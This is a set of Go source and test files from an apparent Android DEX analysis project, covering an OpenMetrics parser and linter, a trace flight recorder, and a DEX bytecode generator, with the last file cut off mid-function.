	}
	return "", false
}

// parseSampleLine splits `name{labels} value` into its parts.
func parseSampleLine(line string) (name string, labels map[string]string, value float64, err error) {
	rest := line
	brace := strings.IndexByte(rest, '{')
	labels = map[string]string{}
	if brace >= 0 {
		name = rest[:brace]
		end := strings.IndexByte(rest, '}')
		if end < brace {
			return "", nil, 0, fmt.Errorf("unterminated label set")
		}
		var perr error
		labels, perr = parseLabelSet(rest[brace+1 : end])
		if perr != nil {
			return "", nil, 0, perr
		}
		rest = strings.TrimSpace(rest[end+1:])
	} else {
		sp := strings.IndexByte(rest, ' ')
		if sp < 0 {
			return "", nil, 0, fmt.Errorf("sample has no value")
		}
		name = rest[:sp]
		rest = strings.TrimSpace(rest[sp:])
	}
	if !metricNameRE.MatchString(name) {
		return "", nil, 0, fmt.Errorf("bad sample name %q", name)
	}
	// A sample may carry a trailing timestamp; we emit none and reject any.
	if strings.ContainsAny(rest, " \t") {
		return "", nil, 0, fmt.Errorf("unexpected trailing fields in %q", rest)
	}
	v, perr := strconv.ParseFloat(rest, 64)
	if perr != nil {
		return "", nil, 0, fmt.Errorf("bad sample value %q", rest)
	}
	return name, labels, v, nil
}

// parseLabelSet parses `k="v",k2="v2"` honoring escapes.
func parseLabelSet(s string) (map[string]string, error) {
	labels := map[string]string{}
	for len(s) > 0 {
		eq := strings.IndexByte(s, '=')
		if eq < 0 {
			return nil, fmt.Errorf("label without value in %q", s)
		}
		key := s[:eq]
		if !metricNameRE.MatchString(key) {
			return nil, fmt.Errorf("bad label name %q", key)
		}
		s = s[eq+1:]
		if len(s) == 0 || s[0] != '"' {
			return nil, fmt.Errorf("label %s value is not quoted", key)
		}
		s = s[1:]
		var val strings.Builder
		closed := false
		for i := 0; i < len(s); i++ {
			c := s[i]
			if c == '\\' && i+1 < len(s) {
				i++
				switch s[i] {
				case 'n':
					val.WriteByte('\n')
				default:
					val.WriteByte(s[i])
				}
				continue
			}
			if c == '"' {
				s = s[i+1:]
				closed = true
				break
			}
			val.WriteByte(c)
		}
		if !closed {
			return nil, fmt.Errorf("unterminated value for label %s", key)
		}
		if _, dup := labels[key]; dup {
			return nil, fmt.Errorf("duplicate label %s", key)
		}
		labels[key] = val.String()
		if len(s) > 0 {
			if s[0] != ',' {
				return nil, fmt.Errorf("malformed label separator in %q", s)
			}
			s = s[1:]
		}
	}
	return labels, nil
}

// labelsKey canonicalizes a label map (minus `le`) for grouping histogram
// series.
func labelsKey(labels map[string]string, drop string) string {
	keys := make([]string, 0, len(labels))
	for k := range labels {
		if k == drop {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var sb strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&sb, "%s=%q,", k, labels[k])
	}
	return sb.String()
}

// ParseExposition parses and lints an OpenMetrics text exposition: every
// family must declare its TYPE before samples, sample names must carry the
// type's suffix (_total for counters; _bucket/_sum/_count for histograms),
// histogram buckets must be cumulative with a +Inf bucket equal to _count,
// counters must be non-negative, duplicate samples are rejected, and the
// exposition must end with "# EOF". Errors carry the 1-based line number.
func ParseExposition(r io.Reader) (*Exposition, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 16*1024*1024)
	e := &Exposition{byName: make(map[string]*ExpoFamily)}
	seen := make(map[string]bool) // duplicate sample guard: name + labels
	lineNo := 0
	sawEOF := false
	for sc.Scan() {
		lineNo++
		line := strings.TrimRight(sc.Text(), "\r")
		fail := func(format string, args ...any) (*Exposition, error) {
			return nil, fmt.Errorf("openmetrics: line %d: %s", lineNo, fmt.Sprintf(format, args...))
		}
		if sawEOF {
			return fail("content after # EOF")
		}
		if line == "" {
			return fail("blank line is not valid OpenMetrics")
		}
		if strings.HasPrefix(line, "#") {
			fields := strings.SplitN(line, " ", 4)
			if len(fields) >= 2 && fields[1] == "EOF" {
				sawEOF = true
				continue
			}
			if len(fields) < 3 {
				return fail("malformed metadata line %q", line)
			}
			switch fields[1] {
			case "TYPE":
				if len(fields) != 4 {
					return fail("malformed TYPE line %q", line)
				}
				name, typ := fields[2], fields[3]
				if !metricNameRE.MatchString(name) {
					return fail("bad family name %q", name)
				}
				if typ != "counter" && typ != "gauge" && typ != "histogram" {
					return fail("unsupported family type %q", typ)
				}
				if _, dup := e.byName[name]; dup {
					return fail("duplicate TYPE for family %s", name)
				}
				f := &ExpoFamily{Name: name, Type: typ}
				e.byName[name] = f
				e.Families = append(e.Families, f)
			case "HELP":
				name := fields[2]
				f := e.byName[name]
				if f == nil {
					return fail("HELP before TYPE for family %s", name)
				}
				if len(fields) == 4 {
					f.Help = fields[3]
				}
			default:
				return fail("unknown metadata keyword %q", fields[1])
			}
			continue
		}
		name, labels, value, err := parseSampleLine(line)
		if err != nil {
			return fail("%v", err)
		}
		var f *ExpoFamily
		for _, cand := range e.Families {
			if famName, ok := sampleFamily(name, cand.Type); ok && famName == cand.Name {
				f = cand
				break
			}
		}
		if f == nil {
			return fail("sample %s has no declared family (or the wrong suffix for its type)", name)
		}
		if f != e.Families[len(e.Families)-1] {
			return fail("sample %s is interleaved outside its family block", name)
		}
		if (f.Type == "counter" || f.Type == "histogram") && (value < 0 || math.IsNaN(value)) {
			return fail("%s sample %s has invalid value %v", f.Type, name, value)
		}
		key := name + labelsKey(labels, "")
		if seen[key] {
			return fail("duplicate sample %s", name)
		}
		seen[key] = true
		if f.Type == "histogram" && strings.HasSuffix(name, "_bucket") {
			if _, ok := labels["le"]; !ok {
				return fail("histogram bucket %s is missing the le label", name)
			}
		}
		f.Samples = append(f.Samples, ExpoSample{Name: name, Labels: labels, Value: value})
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	if !sawEOF {
		return nil, fmt.Errorf("openmetrics: missing # EOF terminator")
	}
	for _, f := range e.Families {
		if f.Type != "histogram" {
			continue
		}
		if err := lintHistogram(f); err != nil {
			return nil, fmt.Errorf("openmetrics: family %s: %w", f.Name, err)
		}
	}
	return e, nil
}

// lintHistogram checks bucket monotonicity and _count/_sum consistency per
// label set of one histogram family.
func lintHistogram(f *ExpoFamily) error {
	type hstate struct {
		lastLe    float64
		lastCum   float64
		infBucket float64
		sawInf    bool
		count     float64
		sawCount  bool
		sawSum    bool
	}
	states := make(map[string]*hstate)
	stateOf := func(labels map[string]string) *hstate {
		k := labelsKey(labels, "le")
		st, ok := states[k]
		if !ok {
			st = &hstate{lastLe: math.Inf(-1)}
			states[k] = st
		}
		return st
	}
	for _, s := range f.Samples {
		st := stateOf(s.Labels)
		switch {
		case strings.HasSuffix(s.Name, "_bucket"):
			leStr := s.Labels["le"]
			le := math.Inf(1)
			if leStr != "+Inf" {
				v, err := strconv.ParseFloat(leStr, 64)
				if err != nil {
					return fmt.Errorf("bad le %q", leStr)
				}
				le = v
			}
			if le <= st.lastLe {
				return fmt.Errorf("bucket le %q out of order", leStr)
			}
			if s.Value < st.lastCum {
				return fmt.Errorf("bucket counts not cumulative at le %q", leStr)
			}
			st.lastLe, st.lastCum = le, s.Value
			if math.IsInf(le, 1) {
				st.sawInf, st.infBucket = true, s.Value
			}
		case strings.HasSuffix(s.Name, "_count"):
			st.sawCount, st.count = true, s.Value
		case strings.HasSuffix(s.Name, "_sum"):
			st.sawSum = true
		}
	}
	for k, st := range states {
		if !st.sawInf {
			return fmt.Errorf("series %s has no +Inf bucket", k)
		}
		if !st.sawCount || !st.sawSum {
			return fmt.Errorf("series %s is missing _count or _sum", k)
		}
		if st.infBucket != st.count {
			return fmt.Errorf("series %s +Inf bucket %v != _count %v", k, st.infBucket, st.count)
		}
	}
	return nil
}
