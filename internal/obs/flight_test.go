package obs

import (
	"bytes"
	"fmt"
	"testing"
)

func TestFlightRecorderKeepsLastN(t *testing.T) {
	f := NewFlightRecorder(nil, 4)
	for i := 0; i < 10; i++ {
		if err := f.Emit([]byte(fmt.Sprintf("line%d\n", i))); err != nil {
			t.Fatal(err)
		}
	}
	if f.Len() != 4 {
		t.Errorf("Len = %d, want 4", f.Len())
	}
	if f.Total() != 10 {
		t.Errorf("Total = %d, want 10", f.Total())
	}
	var buf bytes.Buffer
	n, err := f.Dump(&buf)
	if err != nil || n != 4 {
		t.Fatalf("Dump = %d,%v want 4,nil", n, err)
	}
	want := "line6\nline7\nline8\nline9\n"
	if buf.String() != want {
		t.Errorf("Dump order = %q, want %q (oldest first)", buf.String(), want)
	}
}

func TestFlightRecorderCapacityRounding(t *testing.T) {
	f := NewFlightRecorder(nil, 5) // rounds up to 8
	for i := 0; i < 8; i++ {
		f.Emit([]byte("x\n"))
	}
	if f.Len() != 8 {
		t.Errorf("Len = %d, want 8 (5 rounded to next power of two)", f.Len())
	}
	if d := NewFlightRecorder(nil, 0); d.mask+1 != defaultFlightEvents {
		t.Errorf("default capacity = %d, want %d", d.mask+1, defaultFlightEvents)
	}
}

func TestFlightRecorderTee(t *testing.T) {
	var out bytes.Buffer
	f := NewFlightRecorder(NewJSONLSink(&out), 4)
	f.Emit([]byte("a\n"))
	f.SetEnabled(false)
	f.Emit([]byte("b\n"))
	if out.String() != "a\nb\n" {
		t.Errorf("tee target saw %q, want both lines even while disarmed", out.String())
	}
	if f.Len() != 1 {
		t.Errorf("disarmed recorder recorded a line: Len = %d, want 1", f.Len())
	}
}

func TestFlightRecorderReset(t *testing.T) {
	f := NewFlightRecorder(nil, 4)
	f.Emit([]byte("a\n"))
	f.Reset()
	if f.Len() != 0 || f.Total() != 0 {
		t.Errorf("after Reset Len/Total = %d/%d, want 0/0", f.Len(), f.Total())
	}
	var buf bytes.Buffer
	if n, _ := f.Dump(&buf); n != 0 {
		t.Errorf("Dump after Reset wrote %d lines", n)
	}
}

func TestFlightRecorderNilSafety(t *testing.T) {
	var f *FlightRecorder
	f.SetEnabled(true)
	f.Reset()
	if f.Len() != 0 || f.Total() != 0 {
		t.Error("nil recorder must report empty")
	}
	if n, err := f.Dump(&bytes.Buffer{}); n != 0 || err != nil {
		t.Errorf("nil Dump = %d,%v", n, err)
	}
}

// TestFlightRecorderDumpIsValidTrace drives a real tracer through a
// recorder and checks the dump replays through the schema-validating trace
// reader as a coherent span tree carrying the job's trace ID.
func TestFlightRecorderDumpIsValidTrace(t *testing.T) {
	f := NewFlightRecorder(nil, 64)
	tr := New(f)
	tr.SetTraceID("job123")
	root := tr.Start("reveal", "demo.apk")
	child := root.Start("collection")
	child.MethodCollected("m", 1, 3)
	child.End()
	root.End()

	var buf bytes.Buffer
	if _, err := f.Dump(&buf); err != nil {
		t.Fatal(err)
	}
	trace, err := ReadTrace(&buf)
	if err != nil {
		t.Fatalf("flight dump failed schema validation: %v", err)
	}
	if len(trace.Events) != 5 {
		t.Fatalf("got %d events, want 5", len(trace.Events))
	}
	for _, ev := range trace.Events {
		if ev.Trace != "job123" {
			t.Errorf("event %s missing trace id: %q", ev.Type, ev.Trace)
		}
	}
	ids := trace.TraceIDs()
	if len(ids) != 1 || ids[0] != "job123" {
		t.Errorf("TraceIDs = %v, want [job123]", ids)
	}
	if got := trace.FilterTrace("job123"); len(got.Events) != 5 {
		t.Errorf("FilterTrace kept %d events, want 5", len(got.Events))
	}
	if got := trace.FilterTrace("other"); len(got.Events) != 0 {
		t.Errorf("FilterTrace(other) kept %d events, want 0", len(got.Events))
	}
}

// TestFlightRecorderDisarmedZeroAlloc gates the disarmed hot path: a
// recorder that is switched off must add zero allocations per event.
func TestFlightRecorderDisarmedZeroAlloc(t *testing.T) {
	f := NewFlightRecorder(nil, 16)
	f.SetEnabled(false)
	line := []byte("{\"t\":\"span_start\"}\n")
	if n := testing.AllocsPerRun(1000, func() { f.Emit(line) }); n != 0 {
		t.Errorf("disarmed Emit allocates %v per op, want 0", n)
	}
}

// TestObsOffPathZeroAlloc gates the fully disabled observability plane: a
// nil tracer and nil span must not allocate on any instrumented call site.
func TestObsOffPathZeroAlloc(t *testing.T) {
	var tr *Tracer
	var sp *Span
	n := testing.AllocsPerRun(1000, func() {
		s := tr.Start("reveal", "app")
		s.MethodCollected("m", 1, 0)
		sp.CacheHit("k")
		s.End()
	})
	if n != 0 {
		t.Errorf("disabled obs path allocates %v per op, want 0", n)
	}
}
