package dexgen_test

import (
	"strings"
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

func TestParameterRegisterConvention(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lg/C;", "")
	cls.Ctor("Ljava/lang/Object;", nil)
	// Instance method: this at locals, params after.
	cls.Method(dexgen.MethodSpec{
		Name: "pick", Ret: "I", Params: []string{"I", "I"}, Locals: 4,
	}, func(a *dexgen.Asm) {
		if a.This() != 4 {
			t.Errorf("this = v%d, want v4", a.This())
		}
		if a.P(0) != 5 || a.P(1) != 6 {
			t.Errorf("params = v%d, v%d", a.P(0), a.P(1))
		}
		a.Binop(bytecode.OpSubInt, 0, a.P(0), a.P(1))
		a.Return(0)
	})
	// Static method: params start at locals.
	cls.Method(dexgen.MethodSpec{
		Name: "twice", Ret: "I", Params: []string{"I"}, Static: true, Locals: 2,
	}, func(a *dexgen.Asm) {
		if a.P(0) != 2 {
			t.Errorf("static param = v%d, want v2", a.P(0))
		}
		a.BinopLit8(bytecode.OpMulIntLit8, 0, a.P(0), 2)
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	c, err := rt.FindClass("Lg/C;")
	if err != nil {
		t.Fatal(err)
	}
	obj := rt.NewInstance(c)
	res, err := rt.Call("Lg/C;", "pick", "(II)I", obj,
		[]art.Value{art.IntVal(9), art.IntVal(4)})
	if err != nil || res.Int != 5 {
		t.Errorf("pick(9,4) = %v, %v", res, err)
	}
	res, err = rt.Call("Lg/C;", "twice", "(I)I", nil, []art.Value{art.IntVal(21)})
	if err != nil || res.Int != 42 {
		t.Errorf("twice(21) = %v, %v", res, err)
	}
}

func TestOutsSizeComputed(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lo/C;", "")
	cls.Static("callee", "V", []string{"I", "I", "I"}, func(a *dexgen.Asm) {
		a.ReturnVoid()
	})
	cls.Static("caller", "V", nil, func(a *dexgen.Asm) {
		a.Const(0, 1)
		a.Const(1, 2)
		a.Const(2, 3)
		a.InvokeStatic("Lo/C;", "callee", "(III)V", 0, 1, 2)
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	em := f.FindMethod("Lo/C;", "caller", "()V")
	if em.Code.OutsSize != 3 {
		t.Errorf("outs = %d, want 3", em.Code.OutsSize)
	}
}

func TestInvokeRangePromotion(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lr/C;", "")
	cls.Static("six", "I", []string{"I", "I", "I", "I", "I", "I"}, func(a *dexgen.Asm) {
		a.Binop(bytecode.OpAddInt, 0, a.P(0), a.P(5))
		a.Return(0)
	})
	cls.Static("go6", "I", nil, func(a *dexgen.Asm) {
		for i := int32(0); i < 6; i++ {
			a.Const(i, int64(i+1))
		}
		a.InvokeStatic("Lr/C;", "six", "(IIIIII)I", 0, 1, 2, 3, 4, 5)
		a.MoveResult(6)
		a.Return(6)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	em := f.FindMethod("Lr/C;", "go6", "()I")
	placed, err := bytecode.DecodeAll(em.Code.Insns)
	if err != nil {
		t.Fatal(err)
	}
	sawRange := false
	for _, pl := range placed {
		if pl.Inst.Op == bytecode.OpInvokeStaticR {
			sawRange = true
		}
	}
	if !sawRange {
		t.Error("six-arg invoke was not promoted to the range form")
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	res, err := rt.Call("Lr/C;", "go6", "()I", nil, nil)
	if err != nil || res.Int != 7 {
		t.Errorf("go6() = %v, %v; want 7", res, err)
	}
}

func TestInvokeRangeNonConsecutiveFails(t *testing.T) {
	p := dexgen.New()
	p.Class("Lbad/C;", "").Static("f", "V", nil, func(a *dexgen.Asm) {
		a.InvokeStatic("Lbad/C;", "g", "(IIIIII)V", 0, 1, 2, 3, 4, 6)
		a.ReturnVoid()
	})
	if _, err := p.Finish(); err == nil ||
		!strings.Contains(err.Error(), "not consecutive") {
		t.Errorf("want non-consecutive error, got %v", err)
	}
}

func TestBadTryLabelsFail(t *testing.T) {
	p := dexgen.New()
	p.Class("Lbad/T;", "").Static("f", "V", nil, func(a *dexgen.Asm) {
		a.ReturnVoid()
		a.Catch("nope", "norDoesThis", "Ljava/lang/Exception;", "missing")
	})
	if _, err := p.Finish(); err == nil {
		t.Error("want bad-label error")
	}
}

func TestBadSignatureFails(t *testing.T) {
	p := dexgen.New()
	p.Class("Lbad/S;", "").Static("f", "V", nil, func(a *dexgen.Asm) {
		a.InvokeStatic("Lx;", "m", "broken-signature", 0)
		a.ReturnVoid()
	})
	if _, err := p.Finish(); err == nil {
		t.Error("want signature error")
	}
	// The first error sticks; later calls are no-ops.
	if _, err := p.Bytes(); err == nil {
		t.Error("Bytes after failure must keep the error")
	}
}

func TestBuildAPK(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lq/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	pkg, err := p.BuildAPK("q.app", "2.3", "Lq/Main;")
	if err != nil {
		t.Fatal(err)
	}
	if pkg.Manifest.Package != "q.app" || pkg.Manifest.MainActivity != "Lq/Main;" {
		t.Errorf("manifest = %+v", pkg.Manifest)
	}
	data, err := pkg.Dex()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dex.Read(data); err != nil {
		t.Errorf("generated dex does not parse: %v", err)
	}
}

func TestRawMethodTriesFn(t *testing.T) {
	p := dexgen.New()
	p.Class("Lraw/C;", "").RawMethod("f", "V", nil, dex.AccPublic|dex.AccStatic,
		dexgen.RawCode{
			Registers: 1, Ins: 0,
			Build: func(a *dexgen.Asm) {
				a.Label("start")
				a.Nop()
				a.ReturnVoid()
			},
			TriesFn: func(labels *bytecode.Labels) ([]dex.Try, error) {
				start, ok := labels.Name("start")
				if !ok {
					t.Error("label positions not passed to TriesFn")
				}
				return []dex.Try{{Start: uint32(start), Count: 1, CatchAll: 1}}, nil
			},
		})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	em := f.FindMethod("Lraw/C;", "f", "()V")
	if len(em.Code.Tries) != 1 || em.Code.Tries[0].CatchAll != 1 {
		t.Errorf("tries = %+v", em.Code.Tries)
	}
}
