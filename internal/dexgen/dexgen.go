// Package dexgen is a high-level code generator over dex.Builder and
// bytecode.Assembler. The DroidBench sample suite, the synthetic AOSP,
// F-Droid and market applications, and the packer shells are all emitted
// through it. It handles parameter register conventions (smali-style pN
// registers above the declared locals), outs-size computation and
// label-anchored try/catch ranges.
package dexgen

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/pipeline"
)

// asmTask is one method body whose assembly has been deferred to Finish.
// Assembly is self-contained (it touches only the task's own Asm and Code)
// and runs on a worker; tries may intern constants through the Builder and
// therefore runs serially after every assemble completed.
type asmTask struct {
	a          *Asm
	code       *dex.Code
	desc, name string
	labels     bytecode.Labels
	tries      func(labels *bytecode.Labels) error
}

// assemble runs the deferred assembly for this task; safe to fan out.
func (t *asmTask) assemble() error {
	res, err := t.a.asm.AssembleFull()
	if err != nil {
		return fmt.Errorf("dexgen: %s->%s: %v", t.desc, t.name, err)
	}
	t.code.Insns = res.Insns
	t.code.IndexFixups = res.Fixups
	t.labels = res.Labels
	return nil
}

// Program accumulates classes and produces a dex.File or an APK.
type Program struct {
	b       *dex.Builder
	err     error
	workers int
	tasks   []asmTask

	codeArena []dex.Code // chunked allocator: pointers stay stable
	asmArena  []Asm
}

// newCode returns a zeroed dex.Code from the chunk allocator. Codes are
// handed to the Builder and retained, so they come from fixed-size chunks
// whose element addresses never move.
func (p *Program) newCode() *dex.Code {
	if len(p.codeArena) == 0 {
		p.codeArena = make([]dex.Code, 64)
	}
	c := &p.codeArena[0]
	p.codeArena = p.codeArena[1:]
	return c
}

// newAsm returns a zeroed Asm from the chunk allocator.
func (p *Program) newAsm() *Asm {
	if len(p.asmArena) == 0 {
		p.asmArena = make([]Asm, 64)
	}
	a := &p.asmArena[0]
	p.asmArena = p.asmArena[1:]
	a.p = p
	return a
}

// New returns an empty program.
func New() *Program {
	return &Program{b: dex.NewBuilder()}
}

// SetWorkers bounds the parallel fan-out Finish uses to assemble method
// bodies and remap bytecode indices: 0 selects GOMAXPROCS, 1 forces the
// serial path. Output is byte-identical at any worker count.
func (p *Program) SetWorkers(n int) {
	p.workers = n
	p.b.SetWorkers(n)
}

func (p *Program) fail(format string, args ...any) {
	if p.err == nil {
		p.err = fmt.Errorf("dexgen: "+format, args...)
	}
}

// Builder exposes the underlying dex.Builder for advanced callers.
func (p *Program) Builder() *dex.Builder { return p.b }

// Class starts a class definition. Super defaults to java/lang/Object when
// empty.
func (p *Program) Class(descriptor, super string, interfaces ...string) *Class {
	if super == "" {
		super = "Ljava/lang/Object;"
	}
	cb := p.b.Class(descriptor, dex.AccPublic, super, interfaces...)
	return &Class{p: p, cb: cb, desc: descriptor}
}

// Finish assembles every deferred method body — in parallel across the
// worker set when SetWorkers allows it — then canonicalizes and returns the
// DEX file model. Method ordering was fixed when the methods were declared
// and instruction encoding is deterministic, so the result is byte-identical
// at any worker count; pipeline.ParallelDo surfaces the lowest-index error,
// matching what a serial run would report.
func (p *Program) Finish() (*dex.File, error) {
	if p.err != nil {
		return nil, p.err
	}
	tasks := p.tasks
	p.tasks = nil
	if err := pipeline.ParallelDo(p.workers, len(tasks), func(i int) error {
		return tasks[i].assemble()
	}); err != nil {
		p.err = err
		return nil, err
	}
	// Try tables resolve serially: they intern catch types in the Builder.
	for i := range tasks {
		t := &tasks[i]
		if t.tries == nil {
			continue
		}
		if err := t.tries(&t.labels); err != nil {
			p.err = err
			return nil, err
		}
	}
	return p.b.Finish()
}

// Bytes finishes the program and serializes it to DEX binary form.
func (p *Program) Bytes() ([]byte, error) {
	f, err := p.Finish()
	if err != nil {
		return nil, err
	}
	return f.Write()
}

// BuildAPK finishes the program and wraps it into an APK.
func (p *Program) BuildAPK(pkg, version, mainActivity string) (*apk.APK, error) {
	data, err := p.Bytes()
	if err != nil {
		return nil, err
	}
	a := apk.New(pkg, version, mainActivity)
	a.SetDex(data)
	return a, nil
}

// Class is a class under construction.
type Class struct {
	p    *Program
	cb   *dex.ClassBuilder
	desc string
}

// Descriptor returns the class type descriptor.
func (c *Class) Descriptor() string { return c.desc }

// Source sets the source file name.
func (c *Class) Source(name string) *Class {
	c.cb.SourceFile(name)
	return c
}

// StaticString declares a static final string field with an initial value.
func (c *Class) StaticString(name, value string) *Class {
	v := dex.StringValue(c.p.b.String(value))
	c.cb.StaticField(name, "Ljava/lang/String;", dex.AccPublic|dex.AccFinal, &v)
	return c
}

// StaticBool declares a static boolean field.
func (c *Class) StaticBool(name string, value bool) *Class {
	v := dex.BoolValue(value)
	c.cb.StaticField(name, "Z", dex.AccPublic, &v)
	return c
}

// StaticInt declares a static int field.
func (c *Class) StaticInt(name string, value int64) *Class {
	v := dex.IntValue(value)
	c.cb.StaticField(name, "I", dex.AccPublic, &v)
	return c
}

// StaticField declares a static field of an arbitrary type with no initial
// value.
func (c *Class) StaticField(name, typ string) *Class {
	c.cb.StaticField(name, typ, dex.AccPublic, nil)
	return c
}

// Field declares an instance field.
func (c *Class) Field(name, typ string) *Class {
	c.cb.InstanceField(name, typ, dex.AccPrivate)
	return c
}

// Native declares a native method (direct unless virtual is set).
func (c *Class) Native(name, ret string, params ...string) *Class {
	c.cb.NativeMethod(name, ret, params, dex.AccPublic)
	return c
}

// MethodSpec describes a method to generate.
type MethodSpec struct {
	Name   string
	Ret    string
	Params []string
	Static bool
	Direct bool // constructors/private helpers; implied by Static
	Locals int  // local registers below the parameter window (default 8)
}

// Method generates a method; gen emits its body into the Asm.
func (c *Class) Method(spec MethodSpec, gen func(a *Asm)) *Class {
	if c.p.err != nil {
		return c
	}
	locals := spec.Locals
	if locals == 0 {
		locals = 8
	}
	ins := len(spec.Params)
	if !spec.Static {
		ins++
	}
	a := c.p.newAsm()
	a.locals = int32(locals)
	a.static = spec.Static
	a.params = len(spec.Params)
	gen(a)
	// The body was generated (interning every constant through the Builder);
	// the pure assembly into code units is deferred so Finish can fan it out.
	code := c.p.newCode()
	code.RegistersSize = uint16(locals + ins)
	code.InsSize = uint16(ins)
	code.OutsSize = uint16(a.outs)
	task := asmTask{a: a, code: code, desc: c.desc, name: spec.Name}
	if tries := a.tries; len(tries) > 0 {
		desc, mname := c.desc, spec.Name
		task.tries = func(labels *bytecode.Labels) error {
			for _, tc := range tries {
				start, ok1 := labels.Name(tc.start)
				end, ok2 := labels.Name(tc.end)
				handler, ok3 := labels.Name(tc.handler)
				if !ok1 || !ok2 || !ok3 || end < start {
					return fmt.Errorf("dexgen: %s->%s: bad try/catch labels %+v", desc, mname, tc)
				}
				try := dex.Try{Start: uint32(start), Count: uint32(end - start), CatchAll: -1}
				if tc.catchType == "" {
					try.CatchAll = int32(handler)
				} else {
					try.Handlers = []dex.TypeAddr{{
						Type: c.p.b.Type(tc.catchType), Addr: uint32(handler),
					}}
				}
				code.Tries = append(code.Tries, try)
			}
			return nil
		}
	}
	c.p.tasks = append(c.p.tasks, task)
	flags := uint32(dex.AccPublic)
	switch {
	case spec.Static:
		flags |= dex.AccStatic
		c.cb.DirectMethod(spec.Name, spec.Ret, spec.Params, flags, code)
	case spec.Direct || spec.Name == "<init>":
		if spec.Name == "<init>" {
			flags |= dex.AccConstructor
		}
		c.cb.DirectMethod(spec.Name, spec.Ret, spec.Params, flags, code)
	default:
		c.cb.VirtualMethod(spec.Name, spec.Ret, spec.Params, flags, code)
	}
	return c
}

// Virtual is shorthand for a virtual method with default locals.
func (c *Class) Virtual(name, ret string, params []string, gen func(a *Asm)) *Class {
	return c.Method(MethodSpec{Name: name, Ret: ret, Params: params}, gen)
}

// Static is shorthand for a static method with default locals.
func (c *Class) Static(name, ret string, params []string, gen func(a *Asm)) *Class {
	return c.Method(MethodSpec{Name: name, Ret: ret, Params: params, Static: true}, gen)
}

// Ctor generates a constructor that calls the superclass default
// constructor and then runs gen (which may be nil).
func (c *Class) Ctor(super string, gen func(a *Asm)) *Class {
	return c.Method(MethodSpec{Name: "<init>", Ret: "V", Direct: true}, func(a *Asm) {
		a.InvokeDirect(super, "<init>", "()V", a.This())
		if gen != nil {
			gen(a)
		}
		a.ReturnVoid()
	})
}

type tryCatch struct {
	start, end, handler, catchType string
}

// Asm extends the bytecode assembler with constant-pool resolution and
// parameter-register conventions.
type Asm struct {
	p      *Program
	asm    bytecode.Assembler
	locals int32
	static bool
	params int
	outs   int
	tries  []tryCatch
}

// This returns the receiver register (instance methods only).
func (a *Asm) This() int32 { return a.locals }

// P returns the i-th declared parameter's register.
func (a *Asm) P(i int) int32 {
	base := a.locals
	if !a.static {
		base++
	}
	return base + int32(i)
}

// Raw gives access to the underlying assembler.
func (a *Asm) Raw() *bytecode.Assembler { return &a.asm }

// Label binds a label.
func (a *Asm) Label(name string) *Asm {
	a.asm.Label(name)
	return a
}

// Catch registers a try range [start,end) with a typed handler; empty
// catchType means catch-all.
func (a *Asm) Catch(start, end, catchType, handler string) *Asm {
	a.tries = append(a.tries, tryCatch{start: start, end: end, handler: handler, catchType: catchType})
	return a
}

func (a *Asm) trackOuts(n int) {
	if n > a.outs {
		a.outs = n
	}
}

// --- constant-pool aware emitters ------------------------------------------

// ConstString loads a string literal.
func (a *Asm) ConstString(reg int32, s string) *Asm {
	a.asm.ConstString(reg, a.p.b.String(s))
	return a
}

// Const loads an integer literal.
func (a *Asm) Const(reg int32, v int64) *Asm {
	a.asm.Const(reg, v)
	return a
}

// ConstClass loads a class object.
func (a *Asm) ConstClass(reg int32, desc string) *Asm {
	a.asm.ConstClass(reg, a.p.b.Type(desc))
	return a
}

// NewInstance allocates an instance.
func (a *Asm) NewInstance(reg int32, desc string) *Asm {
	a.asm.NewInstance(reg, a.p.b.Type(desc))
	return a
}

// NewArray allocates an array.
func (a *Asm) NewArray(dst, size int32, desc string) *Asm {
	a.asm.NewArray(dst, size, a.p.b.Type(desc))
	return a
}

// CheckCast emits check-cast.
func (a *Asm) CheckCast(reg int32, desc string) *Asm {
	a.asm.CheckCast(reg, a.p.b.Type(desc))
	return a
}

// InstanceOf emits instance-of.
func (a *Asm) InstanceOf(dst, src int32, desc string) *Asm {
	a.asm.InstanceOf(dst, src, a.p.b.Type(desc))
	return a
}

func (a *Asm) invoke(op bytecode.Opcode, cls, name, sig string, regs ...int32) *Asm {
	idx, err := a.p.b.MethodSig(cls, name, sig)
	if err != nil {
		a.p.fail("invoke %s->%s%s: %v", cls, name, sig, err)
		return a
	}
	a.trackOuts(len(regs))
	ints := make([]int, len(regs))
	fits := true
	for i, r := range regs {
		ints[i] = int(r)
		if r > 0xf {
			fits = false
		}
	}
	if fits && len(regs) <= 5 {
		a.asm.Invoke(op, idx, ints...)
		return a
	}
	// Fall back to the range form; registers must be consecutive.
	rop := map[bytecode.Opcode]bytecode.Opcode{
		bytecode.OpInvokeVirtual:   bytecode.OpInvokeVirtualR,
		bytecode.OpInvokeSuper:     bytecode.OpInvokeSuperR,
		bytecode.OpInvokeDirect:    bytecode.OpInvokeDirectR,
		bytecode.OpInvokeStatic:    bytecode.OpInvokeStaticR,
		bytecode.OpInvokeInterface: bytecode.OpInvokeInterR,
	}[op]
	for i := 1; i < len(ints); i++ {
		if ints[i] != ints[0]+i {
